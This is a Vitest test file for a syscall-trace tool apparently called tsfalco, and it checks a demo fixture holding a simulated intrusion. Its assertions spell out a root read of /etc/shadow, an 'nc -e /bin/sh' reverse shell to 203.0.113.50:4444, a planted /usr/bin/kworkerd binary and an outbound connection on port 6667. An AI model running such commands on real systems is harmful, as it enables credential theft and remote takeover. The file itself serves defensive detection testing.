import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { openTrace } from '../../src/trace/reader.js';
import { batchEvents } from '../../src/trace/rows.js';
import type { TraceEvent } from '../../src/trace/event.js';
import { ROOT, tempDir, tsfalco } from '../helpers/cli.js';

const DEMO = join(ROOT, 'fixtures/demo.arrow');
const tmp = tempDir();
afterAll(tmp.cleanup);

function demoEvents(): TraceEvent[] {
  const trace = openTrace(DEMO);
  const out: TraceEvent[] = [];
  for (const batch of trace.batches()) out.push(...batchEvents(batch));
  trace.close();
  return out;
}

describe('the demo fixture', () => {
  it('is what fixtures/make-demo.ts writes (regenerate with npm run fixtures:demo)', () => {
    const out = join(tmp.dir, 'demo.arrow');
    const r = spawnSync(process.execPath, [join(ROOT, 'dist/fixtures/make-demo.js'), out], { encoding: 'utf8' });
    expect(r.status).toBe(0);
    expect(readFileSync(out).equals(readFileSync(DEMO))).toBe(true);
  });

  it('holds the incident: /etc/shadow read, nc reverse shell, a write below /usr/bin, an outbound connection', () => {
    const events = demoEvents();
    const shadow = events.find((e) => e.type === 'openat' && e.path === '/etc/shadow');
    expect(shadow).toMatchObject({ comm: 'cat', euid: 0, res: 3n });
    const nc = events.find((e) => e.type === 'execve' && e.comm === 'nc');
    expect(nc?.args).toEqual(['-e', '/bin/sh', '203.0.113.50', '4444']);
    expect(events.find((e) => e.type === 'connect' && e.pid === nc?.pid)).toMatchObject({ dip: '203.0.113.50', dport: 4444, l4proto: 6 });
    expect(events.find((e) => e.type === 'openat' && e.path === '/usr/bin/kworkerd' && (e.res ?? -1n) >= 0n)).toMatchObject({ comm: 'install', euid: 0 });
    expect(events.find((e) => e.type === 'connect' && e.comm === 'kworkerd')).toMatchObject({ dip: '198.51.100.23', dport: 6667 });
    // Every syscall row is a completed syscall, as tsfalco's capture records them.
    expect(events.filter((e) => !e.type.startsWith('snapshot_') && e.type !== 'capture_stats').every((e) => e.dir === '<')).toBe(true);
  });

  it('trace info reports it', () => {
    const r = tsfalco(['trace', 'info', DEMO, '--json']);
    expect(r.status).toBe(0);
    const [info] = JSON.parse(r.stdout);
    expect(info).toMatchObject({ complete: true, host: 'web-01', format_version: '1.0', snapshots: 1, dropped_events: 0 });
    const events = demoEvents();
    const syscalls = events.filter((e) => !e.type.startsWith('snapshot_') && e.type !== 'capture_stats');
    expect(info.events).toBe(syscalls.length);
    expect(info.records).toBe(events.length);
    const byType = Object.fromEntries(info.events_by_type.map((t: { type: string; count: number }) => [t.type, t.count]));
    expect(byType.execve).toBe(syscalls.filter((e) => e.type === 'execve').length);
    expect(byType.connect).toBe(3);
    expect(info.start_ns).toBe(syscalls[0].ts.toString());
    expect(info.end_ns).toBe(syscalls[syscalls.length - 1].ts.toString());
    const text = tsfalco(['trace', 'info', DEMO]);
    expect(text.stdout).toMatch(/host\s+│ web-01/);
    expect(text.stdout).toMatch(/│ 2330 +│ kworkerd +│ \/usr\/bin\/kworkerd/);
  });
});
